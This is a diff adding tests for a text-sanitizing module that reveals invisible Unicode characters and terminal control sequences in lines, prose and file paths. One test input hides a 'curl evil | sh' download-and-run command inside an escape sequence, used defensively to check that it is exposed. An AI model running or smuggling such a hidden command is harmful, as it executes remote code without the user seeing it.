@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from lmtui.core.clean import clean, clean_line, reveal, reveal_line
+from lmtui.core.clean import clean, clean_line, clean_path, reveal, reveal_line
 
 
 @pytest.mark.parametrize(
@@ -98,3 +98,48 @@ def test_a_line_to_be_asked_about_keeps_what_stands_in_a_control_sequence() -> N
     hidden = "true \x1b]0;; curl evil | sh #\x07"
     assert "curl" not in clean_line(hidden)
     assert reveal_line(f"{hidden}\nmore") == "true \u241b]0;; curl evil | sh #\u2407\u23cemore"
+
+
+# Default_Ignorable_Code_Point of Unicode 15, written down by hand from DerivedCoreProperties.txt
+IGNORABLE = [
+    (0xAD, 0xAD), (0x34F, 0x34F), (0x61C, 0x61C), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F), (0x200B, 0x200F),
+    (0x202A, 0x202E), (0x2060, 0x206F), (0x3164, 0x3164), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF), (0xFFA0, 0xFFA0),
+    (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF),
+]  # fmt: skip
+
+
+def test_every_character_that_is_not_seen_is_named_in_what_a_person_decides_on() -> None:
+    hidden = {code for first, last in IGNORABLE for code in range(first, last + 1)} | {0x2800, 0x1D159}
+    hidden |= {code for code in range(0x110000) if unicodedata.category(chr(code))[0] == "Z" and code != 0x20}
+    left = [code for code in hidden if reveal(f"a{chr(code)}b") != f"a<U+{code:04X}>b"]
+    assert left == []
+    assert [code for code in hidden if reveal_line(f"/x/{chr(code)}") != f"/x/<U+{code:04X}>"] == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\u2764\ufe0f\u200d\U0001f525 \U0001f469\u200d\U0001f4bb \U0001f3fd\u200d\U0001f9b0 1\ufe0f\u20e3 \u00a9\ufe0f",
+        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u0915\u094d\u200d\u0937",
+        "\u00ab\u00a0bonjour\u202f\u00bb \u4f60\u597d\u3000\u4e16\u754c \u2800\u2801",
+    ],
+)
+def test_prose_keeps_what_its_writing_needs_and_a_decision_does_not(text: str) -> None:
+    assert clean(text) == text
+    assert "<U+" in reveal(text)
+
+
+@pytest.mark.parametrize("char", ["\u200c", "\u200d", "\ufe0f", "\ufe00", "\U000e0100"])
+@pytest.mark.parametrize("base", ["a", "\u00e9", "\u0441", "\u03b1", "."])
+def test_a_joiner_or_selector_where_writing_needs_none_is_named_in_prose_too(char: str, base: str) -> None:
+    assert clean(f"src/{base}{char}{base}.py") == f"src/{base}<U+{ord(char):04X}>{base}.py"
+
+
+@given(st.text(alphabet="a\u0441\u4f60\u2764\u200d\u200c\ufe0f\ufe00\u20e3#\u00a9\u202e\u2800\x1b[", max_size=12))
+def test_what_prose_keeps_is_the_same_when_it_is_cleaned_again(text: str) -> None:
+    assert clean(clean(text)) == clean(text)
+
+
+@pytest.mark.parametrize("char", ["\u200d", "\u00a0", "\u3000", "\u2800", "\ufe0f", "\u3164"])
+def test_a_path_that_is_only_shown_names_what_hides_and_drops_control_sequences(char: str) -> None:
+    assert clean_path(f"src/\x1b[31m\u4f60{char}\u4f60\n.py") == f"src/\u4f60<U+{ord(char):04X}>\u4f60\u23ce.py"
